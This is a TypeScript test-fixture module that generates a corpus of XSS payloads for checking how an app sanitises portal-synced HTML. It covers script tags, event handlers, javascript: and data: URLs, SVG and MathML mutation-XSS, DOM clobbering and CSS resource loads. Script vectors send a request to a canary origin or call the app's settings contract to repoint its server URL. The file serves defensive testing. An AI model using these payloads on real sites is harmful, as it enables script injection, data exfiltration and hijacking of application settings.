// An XSS corpus for content synced from the portal: script tags, event
// handlers, javascript: and data: URLs, SVG, iframes, embeds, mutation-XSS
// shapes, DOM clobbering and CSS tricks. Every vector that could run script is
// armed three ways: mark a probe, reach a foreign origin, call the app's
// contract. The rest only try to load something from the foreign origin.
// Script bodies use backticks only, so they survive any attribute quoting.

export interface XssPayload {
  /** Stable name: the vector and what it is armed with. */
  name: string;
  html: string;
}

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** Script that proves execution: the page's probe, a foreign request, a contract call (harness HTTP or Electron preload). */
function actions(n: number, canary: string): Array<[string, string]> {
  return [
    ['probe', `top.__xss(${n})`],
    ['exfiltrate', `fetch(\`${canary}/js/${n}\`)`],
    [
      'contract',
      `(window.ewsi ? window.ewsi[\`settings.update\`]({serverUrl:\`${canary}\`}) : fetch(\`/ewsi/call\`,{method:\`POST\`,headers:{[\`content-type\`]:\`application/json\`},body:JSON.stringify({method:\`settings.update\`,args:{serverUrl:\`${canary}\`}})}))`,
    ],
  ];
}

/** Vectors that run script: JS is replaced by an action. */
const SCRIPT_VECTORS: Array<[string, (js: string) => string]> = [
  ['script tag', (js) => `<script>${js}</script>`],
  ['script tag, upper case', (js) => `<SCRIPT>${js}</SCRIPT>`],
  ['script src data:', (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`],
  ['img onerror', (js) => `<img src="x" onerror="${js}">`],
  ['img onerror, unquoted src', (js) => `<img src=x:x onerror="${js}" />`],
  ['svg onload', (js) => `<svg onload="${js}"></svg>`],
  ['script inside svg', (js) => `<svg><script>${js}</script></svg>`],
  ['svg animate onbegin', (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`],
  ['svg set handler', (js) => `<svg><set attributeName="onmouseover" to="${js}"/><rect width="200" height="50"/></svg>`],
  ['svg xlink javascript:', (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">svg link</text></a></svg>`],
  ['body onload', (js) => `<body onload="${js}"><p>body</p></body>`],
  ['iframe srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['iframe javascript:', (js) => `<iframe src="javascript:${js}"></iframe>`],
  ['iframe data:', (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`],
  ['embed javascript:', (js) => `<embed src="javascript:${js}">`],
  ['object javascript:', (js) => `<object data="javascript:${js}"></object>`],
  ['object param', (js) => `<object><param name="src" value="javascript:${js}"></object>`],
  ['a javascript:', (js) => `<a href="javascript:${js}">link</a>`],
  ['a javascript:, mixed case', (js) => `<a href="JaVaScRiPt:${js}">mixed case</a>`],
  ['a javascript:, entity-encoded', (js) => `<a href="&#106;avascript:${js}">entity</a>`],
  ['a javascript:, tab inside', (js) => `<a href="java&#x09;script:${js}">tab</a>`],
  ['a javascript:, leading blank', (js) => `<a href=" javascript:${js}">blank</a>`],
  ['a vbscript:', (js) => `<a href="vbscript:${js}">vb</a>`],
  ['a data: html', (js) => `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}">data</a>`],
  ['details ontoggle', (js) => `<details open ontoggle="${js}"><summary>s</summary>x</details>`],
  ['input autofocus onfocus', (js) => `<input autofocus onfocus="${js}">`],
  ['select autofocus onfocus', (js) => `<select autofocus onfocus="${js}"><option>o</option></select>`],
  ['textarea autofocus onfocus', (js) => `<textarea autofocus onfocus="${js}"></textarea>`],
  ['div tabindex onfocus', (js) => `<div tabindex="0" autofocus onfocus="${js}">focus</div>`],
  ['marquee onstart', (js) => `<marquee onstart="${js}">m</marquee>`],
  ['video source onerror', (js) => `<video><source onerror="${js}"></video>`],
  ['audio onerror', (js) => `<audio src="x" onerror="${js}"></audio>`],
  ['button formaction', (js) => `<form><button formaction="javascript:${js}">go</button></form>`],
  ['form action', (js) => `<form action="javascript:${js}"><input type="submit" value="send"></form>`],
  ['mathml mXSS', (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`],
  ['noscript mXSS', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>`],
  ['svg style mXSS', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
  ['template content', (js) => `<template><img src=x onerror="${js}"></template>`],
  ['foreignObject iframe', (js) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe></foreignObject></svg>`],
  ['svg data: image', (js) => `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`],
  ['style javascript: url', (js) => `<div style="background:url(javascript:${js})">css url</div>`],
  ['style expression', (js) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="x:expression(${js})">`],
  ['base javascript:', (js) => `<base href="javascript:${js}//"><a href="relative">relative</a>`],
  ['meta refresh javascript:', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['link import data:', (js) => `<link rel="import" href="data:text/html,<script>${js}</script>">`],
  ['div onmouseover', (js) => `<div onmouseover="${js}">hover over me</div>`],
  ['p onclick', (js) => `<p onclick="${js}">click me</p>`],
  ['button onclick', (js) => `<button onclick="${js}">button</button>`],
  ['isindex onerror', (js) => `<isindex type="image" src="1" onerror="${js}">`],
  ['attribute breakout', (js) => `<img alt="x" title='" onerror="${js}'" src="x">`],
];

/** Vectors that only try to reach a foreign origin. */
const NETWORK_VECTORS: Array<[string, (url: string) => string]> = [
  ['img src', (url) => `<img src="${url}" alt="remote">`],
  ['img srcset', (url) => `<img srcset="${url} 1x" alt="srcset">`],
  ['picture source', (url) => `<picture><source srcset="${url}"><img alt="picture"></picture>`],
  ['video poster', (url) => `<video poster="${url}"></video>`],
  ['audio autoplay', (url) => `<audio src="${url}" autoplay></audio>`],
  ['track src', (url) => `<video><track src="${url}"></video>`],
  ['stylesheet link', (url) => `<link rel="stylesheet" href="${url}">`],
  ['prefetch link', (url) => `<link rel="prefetch" href="${url}">`],
  ['style background', (url) => `<style>body{background:url(${url})}</style>`],
  ['style @import', (url) => `<style>@import '${url}';</style>`],
  ['style @font-face', (url) => `<style>@font-face{font-family:x;src:url(${url})}</style><p style="font-family:x">font</p>`],
  ['inline style url', (url) => `<div style="background-image:url(${url})">inline</div>`],
  ['table background', (url) => `<table background="${url}"><tr><td>t</td></tr></table>`],
  ['input image', (url) => `<input type="image" src="${url}">`],
  ['iframe src', (url) => `<iframe src="${url}"></iframe>`],
  ['object data', (url) => `<object data="${url}"></object>`],
  ['embed src', (url) => `<embed src="${url}">`],
  ['meta refresh', (url) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ['base href', (url) => `<base href="${url}/"><img src="relative.png" alt="relative">`],
  ['a ping', (url) => `<a ping="${url}" href="#x">ping</a>`],
  ['svg image', (url) => `<svg><image href="${url}" width="10" height="10"/></svg>`],
  ['DOM clobbering', (url) => `<form id="ewsi" name="ewsi"><input name="call" value="${url}"></form><img name="getElementById" src="${url}"><a id="__xss" href="${url}">clobber</a>`],
];

/** At least 150 payloads, each aimed at `canary` (an origin that is not the app's). */
export function xssPayloads(canary: string): XssPayload[] {
  const payloads: XssPayload[] = [];
  for (const [vector, make] of SCRIPT_VECTORS) {
    for (const [armed, js] of actions(payloads.length, canary)) payloads.push({ name: `${vector} → ${armed}`, html: make(js.replace(/__xss\(\d+\)/, `__xss(${payloads.length})`)) });
  }
  for (const [vector, make] of NETWORK_VECTORS) payloads.push({ name: `${vector} → load`, html: make(`${canary}/net/${payloads.length}`) });
  return payloads;
}
